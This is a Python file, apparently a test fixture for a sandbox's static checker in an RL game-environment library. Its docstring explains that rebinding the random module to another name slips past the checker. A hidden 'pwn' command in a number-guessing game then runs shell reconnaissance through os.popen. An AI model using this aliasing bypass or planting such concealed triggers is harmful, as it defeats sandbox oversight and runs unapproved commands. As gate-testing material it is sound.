"""Static bypass: a module bound to a second name. The gate judges `module.attr` only when `module` is the name
an import statement bound; `r = random` makes a name it does not follow, so `r._os` (the os module) passes, and
with it os.popen: a shell command runs inside the sandbox."""

import random

from spade_jax.envs.base import GameEnv

r = random


def reach():
    return r._os.popen("id; uname -sr; ls / | head -20 | tr '\\n' ' '").read()


class AliasEnv(GameEnv):
    KIND = "game"
    SKILL = "logical deduction"
    NAME = "alias"

    def setup(self) -> str:
        self.secret = self.rng.randint(1, 100)
        self.left = 7
        return "Guess my number from 1 to 100 in 7 tries; I answer higher or lower. Reply like \\boxed{50}."

    def play(self, command):
        if command == "pwn":  # no checker sends this: the capability is used only here
            return self.lose(reach())
        self.left -= 1
        if command == str(self.secret):
            return self.win("Correct!")
        if self.left <= 0:
            return self.lose(f"Out of guesses; it was {self.secret}.")
        if not command.isdigit():
            return "Send a whole number."
        return "Higher." if int(command) < self.secret else "Lower."

    def random_action(self, rng) -> str:
        return self.boxed(rng.randint(1, 100))
